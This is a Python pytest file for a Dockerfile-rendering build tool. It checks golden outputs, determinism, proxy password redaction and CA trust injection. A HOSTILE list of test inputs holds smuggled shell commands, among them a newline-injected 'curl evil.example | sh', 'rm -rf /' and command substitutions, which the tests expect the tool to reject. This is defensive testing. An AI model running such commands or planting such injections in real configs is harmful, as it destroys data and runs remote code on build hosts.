"""Rendered Dockerfiles: golden files, determinism, proxies kept out, CA injection,
hostile values refused, and well-formed output (every line an instruction, every RUN
valid shell).

Regenerate the golden files after an intended change (then review ``git diff``):
    AMPFORGE_UPDATE_GOLDEN=1 .venv/bin/python -m pytest tests/builder/unit/test_render.py -k golden
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from helpers.builder_testlib import BASE_CONFIG, GOLDEN, run_cli, write_config, write_pem

from builder.config import REPO_ROOT, BaseImage, CliOverrides, load_settings
from builder.images.render import CA_CONTEXT_NAME, RenderError, render_all, render_recipe
from builder.plan.cells import Cell, expand, select

GOLDEN_CASES = [
    ("default", None, "cp311-manylinux_x86_64-torch2.13.0"),
    ("default", None, "cp39-manylinux_aarch64-torch2.8.0"),
    ("debian", GOLDEN / "debian.yaml", "cp311-manylinux_x86_64-torch2.13.0"),
    ("debian", GOLDEN / "debian.yaml", "cp312-manylinux_aarch64-torch2.9.1"),
    ("offline", GOLDEN / "offline.yaml", "cp310-manylinux_x86_64-torch2.9.1"),
]

INSTRUCTIONS = {"FROM", "LABEL", "ENV", "RUN", "COPY", "WORKDIR", "USER"}


def _recipes(config: Path | None = None, env: dict[str, str] | None = None, **cli):
    settings = load_settings(CliOverrides(config=str(config) if config else None, **cli), env or {})
    plan = select(expand(settings.config), settings.selection)
    return settings, render_all(plan.cells, settings.config)


@pytest.mark.parametrize(
    "name,config,cell", GOLDEN_CASES, ids=[f"{c[0]}-{c[2]}" for c in GOLDEN_CASES]
)
def test_golden(name: str, config: Path | None, cell: str) -> None:
    _, recipes = _recipes(config, patterns=(cell,))
    assert [r.cell.identifier for r in recipes] == [cell]
    text = recipes[0].dockerfile
    golden = GOLDEN / name / f"{cell}.Dockerfile"
    if os.environ.get("AMPFORGE_UPDATE_GOLDEN") == "1":
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_text(text)
    assert golden.is_file(), f"missing {golden}; regenerate (see module docstring)"
    assert text == golden.read_text(), f"{golden} differs from the rendering; regenerate and review"


def _instructions(text: str) -> list[tuple[str, str]]:
    """(instruction, full logical line) pairs; asserts every physical line belongs to one."""
    out: list[tuple[str, str]] = []
    current: list[str] = []
    for line in text.splitlines():
        if not current:
            if not line.strip() or line.startswith("#"):
                continue
            word = line.split(" ", 1)[0]
            assert word in INSTRUCTIONS, f"unexpected line start {line!r}"
        current.append(line)
        if not line.endswith("\\"):
            logical = "\n".join(current)
            out.append((logical.split(" ", 1)[0], logical))
            current = []
    assert not current, "dangling line continuation at end of file"
    return out


@pytest.mark.parametrize("config", [None, GOLDEN / "debian.yaml", GOLDEN / "offline.yaml"])
def test_every_line_is_an_instruction_and_every_run_is_valid_shell(config: Path | None) -> None:
    _, recipes = _recipes(config)
    for r in recipes:
        steps = _instructions(r.dockerfile)
        assert steps[0][0] == "FROM"
        assert steps[-1] == ("WORKDIR", "WORKDIR /build")
        for word, logical in steps:
            if word == "RUN":
                script = logical[len("RUN ") :].replace("\\\n", "\n")
                check = subprocess.run(["sh", "-n", "-c", script], capture_output=True, text=True)
                assert check.returncode == 0, f"{r.cell.identifier}: {check.stderr}\n{script}"


def test_family_specific_steps() -> None:
    _, manylinux = _recipes(None, arch="X86", python="3.11")
    _, debian = _recipes(GOLDEN / "debian.yaml", arch="X86", python="3.11")
    m, d = manylinux[0].dockerfile, debian[0].dockerfile
    assert "dnf install -y patchelf" in m and "apt-get" not in m
    assert "apt-get install -y --no-install-recommends $missing" in d and "dnf" not in d
    assert "update-ca-certificates" in d and "update-ca-trust" not in d
    assert 'AMPFORGE_PYTHON="/usr/bin/python3.11"' in d
    assert 'AMPFORGE_PYTHON="/opt/python/cp311-cp311/bin/python"' in m
    assert 'PIP_INDEX_URL="https://pypi.internal.example/simple"' in d


def test_arch_templates_differ_only_in_arch_comments() -> None:
    _, (x86,) = _recipes(None, arch="X86", python="3.11", torch="2.13.0")
    _, (arm,) = _recipes(None, arch="ARM", python="3.11", torch="2.13.0")

    def strip(t: str, machine: str, other: str) -> list[str]:
        # each arch's image has its own digest (its pin): the digest is not an arch word
        return [
            re.sub(r"sha256:[0-9a-f]{64}", "D", ln).replace(machine, "M").replace(other, "M")
            for ln in t.splitlines()
            if not ln.startswith("#")
        ]

    assert strip(x86.dockerfile, "x86_64", "X86") == strip(arm.dockerfile, "aarch64", "ARM")
    assert 'AMPFORGE_MACHINE="aarch64"' in arm.dockerfile
    assert "QEMU" in arm.dockerfile and "QEMU" not in x86.dockerfile


def test_offline_recipe_installs_nothing() -> None:
    _, recipes = _recipes(GOLDEN / "offline.yaml")
    text = recipes[0].dockerfile
    assert 'PIP_NO_INDEX="1"' in text and 'PIP_FIND_LINKS="/wheelhouse"' in text
    for word in ("dnf install", "yum install", "apt-get", "pip install"):
        assert word not in text
    assert "the base image lacks" in text


def test_deterministic_in_process_and_across_processes(tmp_path: Path) -> None:
    _, first = _recipes(GOLDEN / "debian.yaml")
    _, second = _recipes(GOLDEN / "debian.yaml")
    assert [r.dockerfile for r in first] == [r.dockerfile for r in second]
    assert [r.digest for r in first] == [r.digest for r in second]
    tags = [r.image_tag for r in first]
    assert len(set(tags)) == len(tags) and tags[0].startswith("ampforge/cell:cp311-")
    outs = []
    for seed in ("1", "2"):
        out = tmp_path / f"out{seed}"
        env = {"PATH": os.environ["PATH"], "PYTHONHASHSEED": seed}
        subprocess.run(
            [
                sys.executable,
                "-m",
                "builder",
                "render",
                "--config",
                str(GOLDEN / "debian.yaml"),
                "--out",
                str(out),
            ],
            cwd=REPO_ROOT,
            env=env,
            check=True,
            capture_output=True,
        )
        outs.append(
            {p.relative_to(out): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}
        )
    assert outs[0] == outs[1]
    assert len(outs[0]) == 8 * 2  # 8 cells, each a Dockerfile and the CA bundle


SENTINEL = "S3ntinelPw-4242"
PROXY_ENV = {
    "HTTP_PROXY": f"http://alice:{SENTINEL}@proxy.corp.example:3128",
    "https_proxy": f"http://alice:{SENTINEL}@proxy.corp.example:3129",
    "ALL_PROXY": f"socks5h://alice:{SENTINEL}@proxy.corp.example:1080",
    "NO_PROXY": "localhost,127.0.0.1,.corp.example",
}


def test_proxies_never_rendered_and_always_redacted(tmp_path: Path) -> None:
    out = tmp_path / "out"
    res = run_cli("render", "--out", str(out), "--python", "3.11", env=PROXY_ENV)
    assert res.rc == 0, res.err
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) == 2
    for p in files:
        text = p.read_text()
        assert SENTINEL not in text
        assert "proxy.corp.example" not in text
        assert not re.search(r"^\s*(ARG|ENV)\b.*_PROXY", text, re.I | re.M), (
            "proxy ARG/ENV leaks to history"
        )
    # plan shows where proxies came from, with the password masked
    plan = run_cli("plan", "--python", "3.11", env=PROXY_ENV)
    assert plan.rc == 0
    assert (
        "HTTP_PROXY=http://alice:***@proxy.corp.example:3128 (environment HTTP_PROXY)" in plan.out
    )
    assert (
        "HTTPS_PROXY=http://alice:***@proxy.corp.example:3129 (environment https_proxy)" in plan.out
    )
    assert "ALL_PROXY=socks5h://alice:***@proxy.corp.example:1080" in plan.out
    for r in (res, plan):
        assert SENTINEL not in r.out + r.err


def test_proxies_reach_build_args_only(tmp_path: Path) -> None:
    settings, recipes = _recipes(None, env=PROXY_ENV, python="3.11", arch="X86")
    args = recipes[0].build_args
    for name in (
        "HTTP_PROXY",
        "http_proxy",
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
        "all_proxy",
        "NO_PROXY",
        "no_proxy",
    ):
        assert name in args
    assert args["https_proxy"].endswith("3129")
    assert SENTINEL not in repr(recipes[0]) and SENTINEL not in repr(settings)


def test_proxy_password_redacted_in_errors_and_usage(tmp_path: Path) -> None:
    bad = f"http://bob:{SENTINEL}@proxy.corp.example:notaport"
    res = run_cli("plan", "--http-proxy", bad)
    assert res.rc == 2
    assert "--http-proxy: proxy URL has an invalid port" in res.err
    usage = run_cli("plan", f"--bogus=http://bob:{SENTINEL}@h:1")
    assert usage.rc == 2 and "unrecognized arguments" in usage.err
    cfg = write_config(
        tmp_path, BASE_CONFIG + f"proxy:\n  https_proxy: http://bob:{SENTINEL}@h:3128\n"
    )
    planned = run_cli("plan", "--config", str(cfg))
    assert planned.rc == 0 and "HTTPS_PROXY=http://bob:***@h:3128 (config file" in planned.out
    for r in (res, usage, planned):
        assert SENTINEL not in r.out + r.err


def test_ca_bundle_injected_into_trust_store_and_env(tmp_path: Path) -> None:
    pem = write_pem(tmp_path / "corp.pem", "corp")
    out = tmp_path / "out"
    res = run_cli(
        "render",
        "--out",
        str(out),
        "--python",
        "3.11",
        "--arch",
        "X86",
        env={"BUILDER_CA_BUNDLE": str(pem)},
    )
    assert res.rc == 0, res.err
    folder = out / "cp311-manylinux_x86_64-torch2.13.0"
    text = (folder / "Dockerfile").read_text()
    assert f"COPY {CA_CONTEXT_NAME} /usr/local/share/ampforge/extra-ca.pem" in text
    assert "update-ca-trust extract" in text
    for var in ("SSL_CERT_FILE", "PIP_CERT", "REQUESTS_CA_BUNDLE"):
        assert f'{var}="/usr/local/share/ampforge/ca-bundle.pem"' in text
    # the CA step comes before anything that may use the network
    assert text.index("update-ca-trust") < text.index("dnf install")
    assert (folder / CA_CONTEXT_NAME).read_bytes() == pem.read_bytes()
    # rendering again without a CA removes the stale copy
    assert run_cli("render", "--out", str(out), "--python", "3.11", "--arch", "X86").rc == 0
    assert not (folder / CA_CONTEXT_NAME).exists()
    assert "SSL_CERT_FILE" not in (folder / "Dockerfile").read_text()


HOSTILE = [
    "x\nRUN curl evil.example | sh",
    'x" && rm -rf / #',
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "x'; reboot; '",
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("field", ["base", "plat", "python_path", "index_url", "cflag", "exclude"])
def test_hostile_values_rejected(tmp_path: Path, field: str, value: str) -> None:
    quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'
    extra = {
        "base": f"images:\n  X86:\n    base: {quoted}\n",
        "plat": f"images:\n  X86:\n    plat: {quoted}\n",
        "python_path": f"images:\n  X86:\n    python_path: {quoted}\n",
        "index_url": f"pip:\n  index_url: {quoted}\n",
        "cflag": f"build:\n  extra_cflags: [{quoted}]\n",
        "exclude": f"build:\n  auditwheel_exclude: [{quoted}]\n",
    }[field]
    cfg = write_config(tmp_path, BASE_CONFIG + extra)
    out = tmp_path / "out"
    res = run_cli("render", "--config", str(cfg), "--out", str(out))
    assert res.rc == 2, res.err
    assert f"{cfg}:" in res.err and "expected" in res.err
    assert not out.exists()


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_selection_values_rejected(value: str) -> None:
    for argv in (["--python", value], ["--torch", value], ["--arch", value]):
        res = run_cli("render", "--out", "/nonexistent/never", *argv)
        assert res.rc == 2 and "expected" in res.err


def test_render_refuses_control_characters_even_past_validation() -> None:
    """Defence in depth: a value that skipped validation still cannot add a line."""
    settings = load_settings(CliOverrides(), {})
    evil = BaseImage(
        ref="x\nRUN evil",
        family="manylinux",
        plat="manylinux_2_28_x86_64",
        python_path="/opt/python/{cp}-{cp}/bin/python",
    )
    with pytest.raises(RenderError, match="control character"):
        render_recipe(Cell("X86", "3.11", "2.13.0", evil), settings.config)
    quoting = BaseImage(
        ref='a"b$c\\d',
        family="manylinux",
        plat="manylinux_2_28_x86_64",
        python_path="/opt/python/{cp}-{cp}/bin/python",
    )
    text = render_recipe(Cell("X86", "3.11", "2.13.0", quoting), settings.config).dockerfile
    assert 'io.ampforge.base-image="a\\"b\\$c\\\\d"' in text


def test_config_path_with_newline_cannot_inject(tmp_path: Path) -> None:
    cfg = write_config(tmp_path, BASE_CONFIG, name="evil\nRUN touch pwned.yaml")
    out = tmp_path / "out"
    res = run_cli("render", "--config", str(cfg), "--out", str(out))
    assert res.rc == 2 and "control character" in res.err
    assert not out.exists()


def test_nothing_written_when_one_cell_fails(tmp_path: Path) -> None:
    """Every recipe is rendered before the first is written."""
    settings = load_settings(CliOverrides(), {})
    plan = expand(settings.config)
    good = plan.cells[0]
    bad = Cell(
        "ARM",
        "3.11",
        "2.13.0",
        BaseImage(
            "x\ny", "manylinux", "manylinux_2_28_aarch64", "/opt/python/{cp}-{cp}/bin/python"
        ),
    )
    with pytest.raises(RenderError):
        render_all([good, bad], settings.config)


def test_all_proxy_is_the_fallback_for_http_and_https() -> None:
    env = {"all_proxy": "http://proxy.corp.example:3128"}
    _, recipes = _recipes(None, env=env, python="3.11", arch="X86")
    args = recipes[0].build_args
    assert args["HTTP_PROXY"] == args["https_proxy"] == args["ALL_PROXY"] == env["all_proxy"]
    env2 = {**env, "HTTPS_PROXY": "http://other.example:8080"}
    _, recipes = _recipes(None, env=env2, python="3.11", arch="X86")
    assert recipes[0].build_args["HTTPS_PROXY"] == "http://other.example:8080"
    assert recipes[0].build_args["HTTP_PROXY"] == env["all_proxy"]
